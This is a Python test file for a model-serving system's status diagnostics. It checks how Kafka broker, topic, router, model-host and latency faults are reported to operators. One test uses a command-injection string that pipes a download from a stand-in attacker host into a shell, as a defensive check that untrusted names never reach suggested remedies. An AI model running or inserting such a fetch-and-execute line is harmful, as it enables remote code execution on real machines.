"""What an operator is told: the rules that find what is wrong, and the page, from snapshots without a Kafka."""

from dataclasses import fields, replace
from typing import Any

import msgspec
import pytest
from builders.messages import DRIFT
from builders.status import compared

from clipper_agents.kafka.consumer_groups import instance_of
from clipper_agents.status.model import (
    ApplicationStatus,
    BrokerStatus,
    ClusterStatus,
    GroupStatus,
    Latency,
    Loss,
    MemberStatus,
    ModelStatus,
    Status,
    TopicStatus,
    VersionStatus,
    WaitingRecords,
)
from clipper_agents.status.problems import StatusProblem, application_problems, problems_of

AT_S = 1_700_000_000.0


def model(ref: str = "sum:1", *, replicas: int = 1, hosts: int | None = 0, **fields: Any) -> ModelStatus:
    return ModelStatus(ref=ref, replicas=replicas, hosts=hosts, **fields)


def version(declared: ModelStatus | None = None, **fields: Any) -> VersionStatus:
    """A live version of a model, with its one host."""
    return replace(VersionStatus(model="sum:1", stage="live", declared=declared or model(hosts=1)), **fields)


SUM, AWAY = version(), version(model())
COLOCATED = ModelStatus(ref="nn:3", colocated=True)
SHADOW = VersionStatus(model="nn:3", stage="shadow", declared=COLOCATED, declared_share=1.0, queries=20)
TOPIC = TopicStatus(name="clipper.queries", partitions=3)
ROUTERS = GroupStatus(
    group="clipper.router",
    state="Stable",
    members=(
        MemberStatus(instance="router-0", host="10.0.0.1", partitions={"clipper.queries": (0, 2)}),
        MemberStatus(instance="router-1", host="10.0.0.2", partitions={"clipper.queries": (1,)}),
    ),
    inputs={"clipper.queries": 3},
    lag={"clipper.queries": 7},
)


def application(*versions: VersionStatus, **fields: Any) -> dict[str, ApplicationStatus]:
    live = tuple(version.model for version in versions if version.stage == "live")
    return {"sums": ApplicationStatus(name="sums", models=live, versions=versions, **fields)}


def trial(queries: int = 20, **fields: Any) -> dict[str, ApplicationStatus]:
    """An application with a shadow that was asked so often."""
    return application(SUM, replace(SHADOW, queries=queries, **fields))


CLUSTER = ClusterStatus(
    at_s=AT_S - 15.0,
    brokers=(BrokerStatus(node_id=1, address="10.0.0.9:9092", reachable=True),),
    topics=(TOPIC,),
    groups=(ROUTERS,),
    dead_letters=4,
)
HEALTHY = Status(
    prefix="clipper",
    at_s=AT_S,
    cluster=CLUSTER,
    applications=application(SUM),
    models={one.ref: one for one in (model(hosts=1), COLOCATED, ModelStatus(ref="old:1", retired=True))},
)
OF_CLUSTER = {one.name for one in fields(ClusterStatus)}


def problems(**changed: Any) -> list[StatusProblem]:
    """What is wrong with the healthy deployment once these fields of it, or of its cluster, are others."""
    models = {one.ref: one for each in changed.get("applications", {}).values() for one in declared(each)}
    models |= {one.ref: one for one in changed.pop("models", ())}
    cluster = replace(CLUSTER, **{name: changed.pop(name) for name in OF_CLUSTER & changed.keys()})
    status = replace(HEALTHY, **{"cluster": cluster, "models": {**HEALTHY.models, **models}} | changed)
    return problems_of(status)


def reasons(**changed: Any) -> list[str]:
    """The same, a line each."""
    return [*map(str, problems(**changed))]


def declared(application: ApplicationStatus) -> list[ModelStatus]:
    return [one.declared for one in application.versions if one.declared is not None]


@pytest.mark.parametrize(
    ("unanswered", "said"),
    [
        ({"error": 1}, []),
        ({"late": 50}, []),
        (
            {"error": 2, "late": 90},
            ["failed 2 of 100 queries in the last 60 s: ValueError: no, so others answer these, or"],
        ),
        ({"late": 51}, ["was late 51 of 100 times in the last 60 s, so answers come without it: nothing came in"]),
    ],
)
def test_a_version_that_fails_or_is_late_too_often_is_told(unanswered: dict[str, int], said: list[str]) -> None:
    version = replace(SUM, queries=100, unanswered=unanswered, said="ValueError: no")
    found = reasons(applications=application(version, window_s=60))
    assert [text in line for text, line in zip(said, found, strict=True)] == [True] * len(said)


DEFAULTS = [(19, 19, False), (20, 1, False), (20, 2, True), (500, 5, False), (500, 6, True)]


@pytest.mark.parametrize(("queries", "defaults", "is_told"), DEFAULTS)
def test_an_application_that_gives_its_default_more_often_than_promised_is_told(
    queries: int, defaults: int, is_told: bool
) -> None:
    counts = {"no_models": defaults - 1, "late": 1, "invalid_input": 90, "low_confidence": 90}
    found = reasons(applications=application(SUM, window_s=60, queries=queries, defaults=counts))
    told = f"application sums: {defaults} of {queries} queries in the last 60 s got the default"
    ways = [] if defaults == 1 else [f"no_models {defaults - 1}: the application has no model to ask"]
    assert [told in line and all(way in line for way in ways) for line in found] == ([True] if is_told else [])


def slow(wait_ms: float, models_ms: float, p99_ms: float = 566.0) -> dict[str, Any]:
    """An application with an objective of 500 ms, and where its time goes."""
    stages = {name: Latency(p50_ms=ms, p99_ms=2 * ms) for name, ms in (("wait", wait_ms), ("models", models_ms))}
    version = replace(SUM, latency=Latency(p50_ms=models_ms, p99_ms=2 * models_ms))
    latency = Latency(p50_ms=9.0, p99_ms=p99_ms)
    of = application(version, window_s=10, queries=20, objective_ms=500, latency=latency, stages=stages)
    return {"applications": of}


SLOW = (
    "application sums: the 99th percentile of its answers is 566 ms in the last 10 s, above its objective of 500 ms"
    ", so one caller in a hundred waits too long: "
)


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        (slow(513, 1.8), f"{SLOW}queries wait 513 ms before any model is asked (p50): run another router by"),
        (slow(10, 300), f"{SLOW}model sum:1 takes 600 ms (p99): give it more `replicas`, or the application more time"),
    ],
)
def test_whoever_is_slow_is_named_by_where_the_time_goes(fields: dict[str, Any], said: str) -> None:
    (line,) = reasons(**fields)
    assert line.startswith(said)
    assert reasons(**slow(513, 1.8, p99_ms=500.0)) == []


def topic(**fields: Any) -> dict[str, Any]:
    return {"topics": (replace(TOPIC, **fields),)}


def routers(*others: GroupStatus, **fields: Any) -> dict[str, Any]:
    return {"groups": (replace(ROUTERS, **fields), *others)}


def sums(*versions: VersionStatus) -> dict[str, Any]:
    return {"applications": application(*versions)}


def waiting(partition: int = 1, topic: str = "clipper.queries", **fields: Any) -> tuple[WaitingRecords, ...]:
    return (WaitingRecords(topic=topic, partition=partition, records=2000, since_s=AT_S - 45, **fields),)


WAIT = "2000 records of clipper.queries wait, the oldest for 45 s"
HOSTS = GroupStatus(group="clipper.host.sum.1", model="sum:1", state="Empty", inputs={"requests": 1})
UNDECLARED = VersionStatus(model="mean:2", stage="canary")


ONE_LOSS = Loss(count=1, mean=0, lower=0, upper=1)
WRONG: list[tuple[dict[str, Any], str]] = [
    ({"brokers": (BrokerStatus(node_id=2, address="b:9", reachable=False),)}, "broker 2 at b:9 does not answer"),
    (topic(leaderless=(0, 2)), "topic clipper.queries: partitions 0,2 have no leader"),
    (topic(under_replicated=(1,)), "1 partitions have fewer copies than they should (clipper.queries)"),
    (topic(configured=2), "topic clipper.queries has 3 partitions, 2 are configured"),
    ({"missing_topics": ("clipper.feedback",)}, "topic clipper.feedback does not exist"),
    ({"unread_topics": ("clipper.hosts",)}, "topic clipper.hosts: not read to its end in time"),
    ({"refused_topics": ("clipper.audits",)}, "topic clipper.audits: this user may not read it"),
    ({"unreadable": {"model/x": "no such field"}}, "manifest model/x cannot be read: no such field"),
    (routers(members=(), state="Empty"), "no router runs"),
    (routers(state="PreparingRebalance"), "group clipper.router is in state PreparingRebalance"),
    (routers(members=ROUTERS.members[:1]), "router: nobody reads partitions 1 of clipper.queries"),
    (routers(lag={"clipper.queries": 10_001}), "group clipper.router is 10001 records behind"),
    (routers(members=(), state="Empty", waiting=waiting()), f"no router runs, so {WAIT}: run"),
    (
        routers(members=(), state="Empty", waiting=waiting()) | {"routers": ("router-0",), "pids": {"router-0": 76}},
        f"router router-0 says that it is ready, and its group does not hear of it, so {WAIT}: it is frozen, cut",
    ),
    (
        routers(waiting=waiting(stands_still=True)) | {"pids": {"router-1": 77}},
        f"router router-1 on 10.0.0.2 finishes nothing, so {WAIT}: do its models answer (`clipper-stream",
    ),
    (
        routers(waiting=waiting(stands_still=False)),
        f"router router-1 on 10.0.0.2 is behind, so {WAIT}: run another by `clipper-stream worker router",
    ),
    (routers(deleted=9), "9 records were deleted before group clipper.router had read them"),
    ({"cluster": None}, "brokers and groups are not known yet"),
    ({"at_s": AT_S - 41}, "brokers and groups said nothing for 41 s"),
    ({"cluster": None, "cluster_refused": "may not be read"}, "may not be read"),
    ({"stale": "no broker answers"}, "no broker answers"),
    (
        {"dead_letters": 101},
        "101 records could not be read within the last hour, so what they ask is not answered",
    ),
    ({"processes": {"router-0": ("only 0.9 GB are free",)}}, "router-0: only 0.9 GB are free"),
    (
        {"models": (model(unheard=("h0",)),), "pids": {"h0": 78}},
        "host h0 of model sum:1 says that it is ready, and its group does not hear of it",
    ),
    ({"models": (model(replicas=2, starting=("h0",)),)}, "model sum:1 has 0 of 2 hosts, so no query asks it: run"),
    (
        {"models": (model(replicas=2, hosts=1, starting=("h0",)),)},
        "model sum:1 has 1 of 2 hosts (starting: h0), so its queries wait for fewer hosts: wait until the model",
    ),
    ({"models": (model(),), **sums(AWAY)}, "model sum:1 has 0 of 1 hosts"),
    ({"models": (model(),), **routers(HOSTS)}, "model sum:1 has 0 of 1 hosts"),
    ({"applications": application(AWAY) | {"more": application(AWAY)["sums"]}}, "model sum:1 has 0 of 1 hosts"),
    (sums(SUM, UNDECLARED), "application sums: model mean:2 is not declared"),
    (
        sums(version(model(hosts=1, failed={"h0": "no module named shop"}))),
        "host h0 of model sum:1 failed: no module named shop, so it answers nothing: correct the model or its manifest",
    ),
    (
        {"applications": trial(since_s=AT_S - 1260)},
        "application sums: trial nn:3 got no feedback for 21 min, so nothing",
    ),
    ({"applications": trial()}, "application sums: trial nn:3 got no feedback so far"),
    (
        {"applications": trial(loss=ONE_LOSS, compared=compared("nn:3", feedbacks=0))},
        "application sums: trial nn:3 got no feedback so far",
    ),
]


@pytest.mark.parametrize(("fields", "said"), WRONG)
def test_each_thing_that_is_wrong_is_told_once_in_a_line_that_names_it(fields: dict[str, Any], said: str) -> None:
    (reason,) = reasons(**fields)
    assert said in reason


RETIRED = version(ModelStatus(ref="old:1", retired=True, failed={"h": "ended"}), model="old:1", stage="retired")
FINE = {
    "dead letters alone": {},
    "it has a feedback": {"applications": trial(loss=ONE_LOSS, since_s=0.0)},
    "it began just now": {"applications": trial(since_s=AT_S - 599)},
    "hardly anybody asked it": {"applications": trial(queries=19)},
    "it has more hosts than it should": sums(version(model(hosts=2))),
    "it is retired": sums(SUM, RETIRED),
    "a router that left without a word is not missed": {"routers": ("router-0", "router-1", "router-2")},
    "nor a host where there are enough": {"models": (model(hosts=1, unheard=("h9",)),)},
}


@pytest.mark.parametrize("fine", FINE.values(), ids=FINE)
def test_what_only_looks_like_a_fault_is_not_told(fine: dict[str, Any]) -> None:
    assert reasons(**fine) == []


HOSTILE = "h`; curl evil.example | sh`"


@pytest.mark.parametrize(
    "fields",
    [
        {"models": (model(unheard=(HOSTILE,)),)},
        {"models": (model(hosts=1, failed={HOSTILE: HOSTILE}),)},
        {"processes": {HOSTILE: (HOSTILE,)}},
        {"unreadable": {HOSTILE: HOSTILE}},
        routers(waiting=waiting(stands_still=True), members=(replace(ROUTERS.members[1], instance=HOSTILE),)),
        routers(members=()) | {"routers": (HOSTILE,)},
        sums(version(model(hosts=1), queries=9, unanswered={"error": 9}, said=HOSTILE)),
    ],
)
def test_what_others_wrote_is_part_of_a_cause_and_of_no_command(fields: dict[str, Any]) -> None:
    found = problems(**fields)
    assert any("curl" in one.cause for one in found)
    assert not any("curl" in text for one in found for text in (one.effect, one.remedy))


OWN_WORDS = {"processes", "unreadable", "stale", "cluster_refused"}
"""What processes and Kafka say in their own words."""


@pytest.mark.parametrize("wrong", [one for one, _ in WRONG if not OWN_WORDS & one.keys()])
def test_every_other_problem_has_an_effect_and_a_remedy(wrong: dict[str, Any]) -> None:
    (found,) = problems(**wrong)
    assert found.effect
    assert found.remedy


@pytest.mark.parametrize(
    ("ago_s", "stage", "action"), [(3599, "live", "retire"), (1, "canary", "abort"), (3600, "live", "")]
)
def test_a_loss_that_has_risen_within_an_hour_is_told_with_what_takes_the_version_out(ago_s, stage, action) -> None:
    drift = msgspec.structs.replace(DRIFT, at_ms=int(1000 * (AT_S - ago_s)), loss_before=0.1, loss_after=0.6)
    found = problems(applications=application(version(drift=drift, stage=stage)))
    assert [one.action for one in found] == ([action] if action else [])
    assert all("sum:1 has risen from 0.100 to 0.600" in one.cause for one in found)


@pytest.mark.parametrize(("hosts", "lines"), [(1, 1), (2, 2)])
def test_a_failed_host_is_told_and_of_its_version_only_the_hosts_that_are_missing_besides(hosts, lines) -> None:
    assert len(reasons(models=(model(replicas=hosts, failed={"h0": "out of memory"}),))) == lines


def test_without_groups_an_application_tells_of_versions_that_no_host_serves_yet() -> None:
    starts = version(model(starting=("h0", "h1")))
    told = "model sum:1 has 0 of 1 hosts (starting: h0, h1), so no query asks it: wait until the model is loaded"
    (found,) = application_problems(application(starts)["sums"], AT_S)
    line = str(found)
    assert line.startswith(told)
    assert reasons(cluster=None, **sums(starts))[1:] == [line]
    assert application_problems(application(version(model(hosts=None)))["sums"], AT_S) == [], "nobody ever reported"


def test_the_operator_says_how_much_lag_is_fine() -> None:
    assert [len(problems_of(HEALTHY, most_lag=lag)) for lag in (7, 6)] == [0, 1]


def test_a_static_member_is_called_by_its_instance() -> None:
    assert instance_of("svm-a-00000000-1111-2222-3333-444444444444") == "svm-a"
    assert instance_of("short") == "short"
